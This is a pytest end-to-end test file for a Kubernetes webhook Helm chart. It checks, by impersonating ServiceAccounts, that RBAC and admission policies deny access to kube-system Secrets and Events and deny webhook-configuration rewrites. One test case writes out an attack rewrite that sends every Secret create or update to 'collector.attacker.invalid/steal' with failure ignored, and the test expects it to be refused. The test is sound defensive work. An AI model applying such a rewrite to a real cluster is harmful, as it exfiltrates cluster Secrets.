"""Issue 33, "Privileges", on the real kube-apiserver: the chart's RBAC and admission policies, by impersonation.

The chart is `helm install`ed (no pods run here: no scheduler or kubelet); each of its ServiceAccounts is
impersonated (`kubectl --as=system:serviceaccount:…`) or its token used, and the apiserver answers:

* the webhook's ServiceAccount may `get` a Secret in a job namespace, never in kube-system nor in a
  namespace created after the install (no RoleBinding there yet); its own client's capability probe
  says where, and the Secrets check reads there;
* the audit ServiceAccount may not list Secrets nor create Events in kube-system; with rbac.clusterWide
  RBAC would let it, and the ValidatingAdmissionPolicy still refuses the Event;
* the certificate manager's ServiceAccount may change the caBundle of its webhook configuration (a
  server-side dry run succeeds); the issue's rewrite (every Secret CREATE/UPDATE sent to an outside
  URL) is refused by the policy; another webhook configuration and another Secret are refused;
* `helm install` finds the apiserver's address itself for the NetworkPolicy, and the namespaces that
  exist for the RoleBindings (never kube-system nor the release namespace).
"""

from __future__ import annotations

import base64
import copy
import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import trustme
import yaml

from e2e.harness.controlplane import ControlPlane
from webhook.checks import all_checks
from webhook.cluster.live import open_cluster_view
from webhook.config import Settings
from webhook.deadline import Deadline
from webhook.kube import ApiError

ROOT = Path(__file__).resolve().parents[1]
CHART = ROOT / "charts" / "preflight-webhook"
NS = "pf-priv-e2e"
RELEASE = "pfpriv"
FULL = f"{RELEASE}-preflight-webhook"
WEBHOOK = f"system:serviceaccount:{NS}:{FULL}"
AUDIT = f"system:serviceaccount:{NS}:{FULL}-audit"
CERTS = f"system:serviceaccount:{NS}:{FULL}-certs"
JOB_NS = "pf-priv-team"  # where jobs live: listed in rbac.jobNamespaces
LATE_NS = "pf-priv-late"  # created after the install: no binding until the next upgrade
OTHER_VWC = "pf-priv-other-webhook"
VALUES = [
    # keep the (fail-closed, never-running) webhook away from every other test's namespaces
    "--set",
    "webhook.namespaceSelectorExpressions[0].key=pf-priv-e2e",
    "--set",
    "webhook.namespaceSelectorExpressions[0].operator=Exists",
    "--set",
    f"rbac.jobNamespaces={{{JOB_NS}}}",
    # this apiserver runs no endpoint reconciler (loopback only): the NetworkPolicy is told its address
    "--set",
    "networkPolicy.apiserverCIDRs={127.0.0.1/32}",
]
#: what the apiserver's endpoint reconciler writes on a real cluster (e2e/harness/node.py has one), here a stand-in
STAND_IN = "192.0.2.10"


def helm(cp: ControlPlane, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    return cp.helm(*args, check=check)


def _secret(ns: str, name: str) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": name, "namespace": ns},
        "stringData": {"token": "not-for-the-webhook"},
    }


def _other_vwc() -> dict[str, Any]:
    return {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": OTHER_VWC},
        "webhooks": [
            {
                "name": "other.pf-priv.example.com",
                "admissionReviewVersions": ["v1"],
                "sideEffects": "None",
                "clientConfig": {"service": {"namespace": NS, "name": "other", "path": "/validate"}},
                "rules": [
                    {
                        "apiGroups": ["pf-priv.example.com"],
                        "apiVersions": ["*"],
                        "operations": ["CREATE"],
                        "resources": ["nothings"],
                    }
                ],  # fmt: skip
            }
        ],
    }


@pytest.fixture(scope="module")
def installed(control_plane: ControlPlane) -> Iterator[ControlPlane]:
    cp = control_plane
    for ns in (NS, JOB_NS):
        cp.ensure_namespace(ns)
    cp.apply([_secret("kube-system", "pf-priv-system"), _secret(JOB_NS, "pf-priv-job"), _other_vwc()])
    helm(cp, "install", RELEASE, str(CHART), "--namespace", NS, *VALUES)
    # e2e/test_audit_job_namespaces_live.py runs this fixture too, so LATE_NS may exist already: it is kept,
    # never deleted. This bare control plane runs no namespace controller, so a deleted namespace stays
    # Terminating and refuses every new object in it (CI failed that way). rbac.jobNamespaces is explicit
    # here, so a LATE_NS that exists at install time is still not bound.
    cp.ensure_namespace(LATE_NS)
    cp.apply([_secret(LATE_NS, "pf-priv-late")])
    try:
        yield cp
    finally:
        helm(cp, "uninstall", RELEASE, "--namespace", NS, check=False)
        cp.kubectl("delete", "secret", "pf-priv-system", "-n", "kube-system", "--ignore-not-found", check=False)
        cp.kubectl("delete", "validatingwebhookconfiguration", OTHER_VWC, "--ignore-not-found", check=False)


def _as(cp: ControlPlane, user: str, *args: str, input: str | None = None) -> subprocess.CompletedProcess[str]:
    return cp.kubectl(*args, f"--as={user}", input=input, check=False)


def _forbidden(ns: str, verb: str, resource: str, user: str, name: str = "") -> str:
    what = f'{resource} "{name}"' if name else resource
    return (
        f'{what} is forbidden: User "{user}" cannot {verb} resource "{resource}" in API group "" '
        f'in the namespace "{ns}"'
    )


# --------------------------------------------------------------------------- the webhook: Secrets where jobs live


def test_the_webhook_cannot_get_a_secret_in_kube_system(installed: ControlPlane) -> None:
    """Reproduction: a kube-system Secret's value was read with the webhook's identity."""
    cp = installed
    got = _as(cp, WEBHOOK, "get", "secret", "pf-priv-system", "-n", "kube-system", "-o", "name")
    assert got.returncode != 0
    assert _forbidden("kube-system", "get", "secrets", WEBHOOK, "pf-priv-system") in got.stderr, got.stderr
    # where jobs live: yes; a namespace created after the install: not until `helm upgrade` binds it
    assert _as(cp, WEBHOOK, "get", "secret", "pf-priv-job", "-n", JOB_NS, "-o", "name").returncode == 0
    late = _as(cp, WEBHOOK, "get", "secret", "pf-priv-late", "-n", LATE_NS, "-o", "name")
    assert _forbidden(LATE_NS, "get", "secrets", WEBHOOK, "pf-priv-late") in late.stderr, late.stderr
    # and never a list anywhere
    listed = _as(cp, WEBHOOK, "get", "secrets", "-n", JOB_NS)
    assert _forbidden(JOB_NS, "list", "secrets", WEBHOOK) in listed.stderr, listed.stderr


async def test_the_webhooks_probe_and_reads_follow_the_job_namespaces(installed: ControlPlane) -> None:
    """The webhook's own client with its own token: the Secrets check is not lowered (granted in the job
    namespace), it reads there, and a read in the late namespace is the 403 the check reports as "cannot verify"."""
    cp = installed
    token = cp.kubectl("create", "token", FULL, "-n", NS, "--duration=1h").stdout.strip()
    admin = yaml.safe_load(Path(cp.kubeconfig).read_text())
    cluster = admin["clusters"][0]
    kubeconfig = cp.state_dir / "pf-priv-webhook.kubeconfig"
    kubeconfig.write_text(
        yaml.safe_dump(
            {
                "apiVersion": "v1",
                "kind": "Config",
                "clusters": [cluster],
                "users": [{"name": "webhook", "user": {"token": token}}],
                "contexts": [{"name": "webhook", "context": {"cluster": cluster["name"], "user": "webhook"}}],
                "current-context": "webhook",
            }
        )
    )
    kubeconfig.chmod(0o600)
    rendered = json.loads(cp.kubectl("get", "configmap", f"{FULL}-config", "-n", NS, "-o", "json").stdout)
    settings = Settings.model_validate(yaml.safe_load(rendered["data"]["config.yaml"]))
    assert settings.job_namespaces == [JOB_NS]
    view = await open_cluster_view(settings, kubeconfig=str(kubeconfig), checks=all_checks(), wait_seconds=60)
    try:
        assert await view.wait_probed(60)
        caps = {c["check"]: c for c in view.capability_summary()["checks"]}
        assert (caps["Secrets"]["value"], caps["Secrets"]["reason"]) == (
            "yes",
            f"get secrets only in the job namespaces ({JOB_NS}; rbac.jobNamespaces)",
        )
        assert caps["Image Pull"]["value"] != "no"
        assert await view.secret_keys(JOB_NS, "pf-priv-job", Deadline(10)) == {"token"}
        with pytest.raises(ApiError) as exc:
            await view.secret_keys(LATE_NS, "pf-priv-late", Deadline(10))
        assert exc.value.forbidden
    finally:
        await view.close()


# --------------------------------------------------------------------------- the audit controller


def _event(ns: str) -> str:
    return json.dumps(
        {
            "apiVersion": "v1",
            "kind": "Event",
            "metadata": {"name": "pf-priv-probe", "namespace": ns},
            "involvedObject": {"kind": "TrainJob", "name": "x", "namespace": ns},
            "reason": "PreflightFailed",
            "message": "probe",
            "type": "Warning",
            "source": {"component": "preflight-webhook-audit"},
        }
    )


def test_the_audit_account_cannot_list_secrets_nor_write_events_in_kube_system(installed: ControlPlane) -> None:
    """Reproduction: the audit ServiceAccount could list Secrets and write Events in kube-system."""
    cp = installed
    listed = _as(cp, AUDIT, "get", "secrets", "-n", "kube-system")
    assert _forbidden("kube-system", "list", "secrets", AUDIT) in listed.stderr, listed.stderr
    made = _as(cp, AUDIT, "create", "--dry-run=server", "-f", "-", input=_event("kube-system"))
    assert made.returncode != 0
    assert _forbidden("kube-system", "create", "events", AUDIT) in made.stderr, made.stderr
    # where jobs live it may (a dry run: nothing is kept)
    ok = _as(cp, AUDIT, "create", "--dry-run=server", "-f", "-", input=_event(JOB_NS))
    assert ok.returncode == 0, ok.stderr


def test_cluster_wide_rbac_still_writes_no_event_in_kube_system(installed: ControlPlane) -> None:
    """rbac.clusterWide binds everywhere (RBAC has no deny); the policy still refuses the Event in kube-system."""
    cp = installed
    helm(cp, "upgrade", RELEASE, str(CHART), "--namespace", NS, *VALUES, "--set", "rbac.clusterWide=true")
    try:
        made = _as(cp, AUDIT, "create", "--dry-run=server", "-f", "-", input=_event("kube-system"))
        assert made.returncode != 0
        assert (
            f"{AUDIT} writes Events only where jobs are judged; refused CREATE of an Event in namespace kube-system"
        ) in made.stderr, made.stderr
        assert "ValidatingAdmissionPolicy" in made.stderr, made.stderr
        ok = _as(cp, AUDIT, "create", "--dry-run=server", "-f", "-", input=_event(LATE_NS))
        assert ok.returncode == 0, ok.stderr
    finally:
        helm(cp, "upgrade", RELEASE, str(CHART), "--namespace", NS, *VALUES)


# --------------------------------------------------------------------------- the certificate manager


def _vwc(cp: ControlPlane, name: str = FULL) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(cp.kubectl("get", "validatingwebhookconfiguration", name, "-o", "json").stdout)
    return doc


def _replace_as_certs(cp: ControlPlane, doc: dict[str, Any]) -> subprocess.CompletedProcess[str]:
    return _as(cp, CERTS, "replace", "--dry-run=server", "-f", "-", input=json.dumps(doc))


def test_the_certs_account_may_change_the_ca_bundle(installed: ControlPlane) -> None:
    cp = installed
    doc = _vwc(cp)
    pem = trustme.CA().cert_pem.bytes()
    for hook in doc["webhooks"]:
        hook["clientConfig"]["caBundle"] = base64.b64encode(pem).decode()
    got = _replace_as_certs(cp, doc)
    assert got.returncode == 0, got.stderr


@pytest.mark.parametrize(
    "rewrite",
    ["every-secret-to-an-outside-url", "rules-only", "failure-policy", "namespace-selector", "a-label"],
)
def test_the_certs_account_cannot_rewrite_its_webhook_configuration(installed: ControlPlane, rewrite: str) -> None:
    """Reproduction: a dry run accepted a rewrite that sends every Secret CREATE/UPDATE to an outside URL."""
    cp = installed
    doc = _vwc(cp)
    new = copy.deepcopy(doc)
    hook = new["webhooks"][0]
    if rewrite == "every-secret-to-an-outside-url":
        hook["clientConfig"] = {"url": "https://collector.attacker.invalid/steal"}
        hook["rules"] = [
            {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"], "resources": ["secrets"],
             "scope": "*"}
        ]  # fmt: skip
        hook["namespaceSelector"] = {}
        hook["failurePolicy"] = "Ignore"
        hook.pop("matchConditions", None)
    elif rewrite == "rules-only":
        hook["rules"][0]["resources"] = [*hook["rules"][0]["resources"], "secrets"]
    elif rewrite == "failure-policy":
        hook["failurePolicy"] = "Ignore"
    elif rewrite == "namespace-selector":
        hook["namespaceSelector"] = {}
    else:
        new["metadata"].setdefault("labels", {})["pf-priv"] = "x"
    got = _replace_as_certs(cp, new)
    assert got.returncode != 0
    assert (
        f"{CERTS} may change only webhooks[*].clientConfig.caBundle of ValidatingWebhookConfiguration {FULL}; "
        f"refused UPDATE of ValidatingWebhookConfiguration {FULL} (anything else there is changed with helm upgrade)"
    ) in got.stderr, got.stderr
    # the same change as the cluster admin is accepted (it is the policy, not the object, that refuses)
    admin = cp.kubectl("replace", "--dry-run=server", "-f", "-", input=json.dumps(new), check=False)
    assert admin.returncode == 0, admin.stderr


def test_the_certs_account_cannot_touch_another_webhook_configuration_or_secret(installed: ControlPlane) -> None:
    cp = installed
    other = _vwc(cp, OTHER_VWC)
    got = _replace_as_certs(cp, other)
    assert (
        f'validatingwebhookconfigurations.admissionregistration.k8s.io "{OTHER_VWC}" is forbidden: User "{CERTS}" '
        'cannot update resource "validatingwebhookconfigurations"'
    ) in got.stderr, got.stderr
    # RBAC lets it create Secrets in its namespace (a name is not known at authorization); the policy does not
    made = _as(cp, CERTS, "create", "secret", "generic", "pf-priv-other", "-n", NS, "--dry-run=server")
    assert made.returncode != 0
    assert (
        f"{CERTS} writes only Secret {NS}/{FULL}-tls; refused CREATE of Secret {NS}/pf-priv-other"
    ) in made.stderr, made.stderr
    own = _as(cp, CERTS, "create", "secret", "generic", f"{FULL}-tls", "-n", NS, "--dry-run=server")
    assert own.returncode == 0 or "AlreadyExists" in own.stderr, own.stderr


# --------------------------------------------------------------------------- what helm install reads


def test_helm_install_reads_the_apiserver_address_and_the_namespaces_itself(installed: ControlPlane) -> None:
    """No networkPolicy.apiserverCIDRs, no rbac.jobNamespaces: a server-side dry run of the install reads the
    `kubernetes` Service's endpoints (lookup) for the NetworkPolicy, and the namespaces that exist for the
    RoleBindings (never kube-system nor the release namespace)."""
    cp = installed
    slice_ = {
        "apiVersion": "discovery.k8s.io/v1",
        "kind": "EndpointSlice",
        "metadata": {
            "name": "kubernetes",
            "namespace": "default",
            "labels": {"kubernetes.io/service-name": "kubernetes"},
        },
        "addressType": "IPv4",
        "endpoints": [{"addresses": [STAND_IN]}],
        "ports": [{"name": "https", "port": 6443, "protocol": "TCP"}],
    }
    cp.apply([slice_])
    try:
        proc = helm(
            cp, "install", "pfpriv-default", str(CHART), "--namespace", NS, "--dry-run=server",
            "--set", "webhook.namespaceSelectorExpressions[0].key=pf-priv-e2e",
            "--set", "webhook.namespaceSelectorExpressions[0].operator=Exists",
        )  # fmt: skip
    finally:
        cp.kubectl("delete", "endpointslice", "kubernetes", "-n", "default", "--ignore-not-found", check=False)
    docs = [d for d in yaml.safe_load_all(proc.stdout.split("MANIFEST:", 1)[-1].split("NOTES:", 1)[0]) if d]
    [np] = [d for d in docs if d["kind"] == "NetworkPolicy"]
    assert np["spec"]["ingress"][0]["from"] == [{"ipBlock": {"cidr": f"{STAND_IN}/32"}}]
    bound = {
        d["metadata"]["namespace"]
        for d in docs
        if d["kind"] == "RoleBinding" and d["metadata"]["name"] == "pfpriv-default-preflight-webhook-jobs"
    }
    assert {JOB_NS, LATE_NS, "default"} <= bound
    assert not bound & {"kube-system", "kube-public", "kube-node-lease", NS}
    # and without any address known, the install is refused rather than open to every address
    refused = helm(cp, "install", "pfpriv-default", str(CHART), "--namespace", NS, "--dry-run=server", check=False)
    assert refused.returncode != 0
    assert "networkPolicy.enabled needs the apiserver's address, and none is known" in refused.stderr
